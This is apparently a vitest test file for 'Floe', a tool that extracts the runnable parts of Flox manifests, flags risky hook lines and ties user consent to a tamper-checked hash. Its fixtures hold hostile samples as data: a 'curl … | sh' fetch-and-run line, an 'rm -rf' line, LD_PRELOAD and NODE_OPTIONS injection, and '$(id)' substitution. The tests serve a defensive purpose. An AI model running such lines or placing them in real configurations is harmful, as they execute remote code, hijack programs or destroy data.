import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { parseManifest } from '../manifest/parse-manifest.ts'
import { packagesOnly, readSurface } from './surface.ts'
import { TrustStore } from './trust-store.ts'

const surfaceOf = (toml: string) => readSurface(parseManifest(`schema-version = "1.15.0"\n${toml}`).manifest)
const hooked = surfaceOf('[hook]\non-activate = "make"\n')

describe('the executable surface', () => {
  test('holds hooks, profiles, services, builds and variables that steer programs, and nothing else', () => {
    const { parts } = surfaceOf(`
      [install]
      hello.pkg-path = "hello"
      [vars]
      HARMLESS = "1"
      NODE_OPTIONS = "--require ./x.js"
      COMPUTED = "$(id)"
      [hook]
      on-activate = "echo hi"
      [profile]
      zsh = "alias x=y"
      [services.db]
      command = "redis-server"
      vars.LD_PRELOAD = "x.so"
      [build.app]
      command = "make"
    `)
    expect(parts.map(({ field }) => field)).toEqual([
      'hook.on-activate',
      'profile.zsh',
      'vars.COMPUTED',
      'vars.NODE_OPTIONS',
      'services.db.command',
      'services.db.vars.LD_PRELOAD',
      'build.app.command',
    ])
  })

  test('is the same after an edit of a comment or a package, and another after an edit of a hook', () => {
    expect(surfaceOf('# why\n[install]\njq.pkg-path = "jq"\n[hook]\non-activate = "make"\n').hash).toBe(hooked.hash)
    expect(surfaceOf('[hook]\non-activate = "make all"\n').hash).not.toBe(hooked.hash)
  })

  test('names the lines that are worth a look', () => {
    const script = '# curl x | sh\ncurl https://x.example | sh\\nrm -rf "$X"\\nexport LD_PRELOAD=a.so\\necho fine'
    const [part] = surfaceOf(`[hook]\non-activate = ${JSON.stringify(script).replaceAll('\\\\n', '\\n')}\n`).parts
    expect(part?.findings.map(({ line }) => line)).toEqual([2, 3, 4])
  })

  test('is empty for a manifest that was reduced to its packages', () => {
    const { manifest } = parseManifest('schema-version = "1.10.0"\n[vars]\nPATH = "x"\n[hook]\non-activate = "make"\n')
    expect(readSurface(packagesOnly(manifest)).parts).toEqual([])
  })
})

describe('the trust store', () => {
  let folder: string
  let store: TrustStore
  const origin = '/home/me/project/.flox'

  beforeEach(() => {
    folder = mkdtempSync(join(tmpdir(), 'floe-trust-'))
    store = new TrustStore(join(folder, 'state'))
  })
  afterEach(() => rmSync(folder, { recursive: true, force: true }))

  test('lets nothing run that was not agreed to, and packages where there is nothing else', async () => {
    expect(await store.levelOf(origin, hooked)).toBe('none')
    expect(await store.levelOf(origin, surfaceOf(''))).toBe('full')
  })

  test('binds consent to the place and to what was shown', async () => {
    await store.set(origin, 'full', hooked.hash)
    expect(await store.levelOf(origin, hooked)).toBe('full')
    expect(await store.levelOf('/elsewhere/.flox', hooked)).toBe('none')
    expect(await store.levelOf(origin, surfaceOf('[hook]\non-activate = "make all"\n'))).toBe('none')
  })

  test('carries consent over a change that the user made through Floe, and only then', async () => {
    const after = surfaceOf('[hook]\non-activate = "make all"\n')
    await store.carryOver(origin, hooked, after)
    expect(await store.levelOf(origin, after)).toBe('none')
    await store.set(origin, 'full', hooked.hash)
    await store.carryOver(origin, hooked, after)
    expect(await store.levelOf(origin, after)).toBe('full')
  })

  test('does not believe a file that somebody else has written', async () => {
    await store.set(origin, 'none', hooked.hash)
    const path = join(folder, 'state', 'trust.json')
    writeFileSync(path, readFileSync(path, 'utf8').replace('"none"', '"full"'))
    expect(await store.levelOf(origin, hooked)).toBe('none')
  })

  test('is for this user only', async () => {
    await store.set(origin, 'full', hooked.hash)
    for (const name of ['trust.json', 'trust.key']) {
      expect(statSync(join(folder, 'state', name)).mode & 0o777).toBe(0o600)
    }
  })

  test('agrees again to what Floe puts back only where it was agreed to, and not since taken back', async () => {
    const made = surfaceOf('[hook]\non-activate = "make all"\n')
    const evil = surfaceOf('[hook]\non-activate = "evil"\n')
    const level = (surface: typeof made) => store.levelOf('/p/.flox', surface)
    await store.set('/p/.flox', 'full', hooked.hash)
    await store.carryOver('/p/.flox', hooked, made)
    expect([await level(hooked), await level(made)]).toEqual(['none', 'full'])
    await store.restore('/p/.flox', evil)
    expect([await level(evil), await level(made)]).toEqual(['none', 'full'])
    await new TrustStore(join(folder, 'state')).restore('/p/.flox', hooked)
    expect([await level(hooked), await level(made)]).toEqual(['full', 'none'])
    await store.restore('/p/.flox', made)
    expect(await level(made)).toBe('full')
    await store.set('/p/.flox', 'none', made.hash)
    await store.set('/p/.flox', 'full', made.hash)
    await store.restore('/p/.flox', hooked)
    expect(await level(hooked)).toBe('none')
  })
})
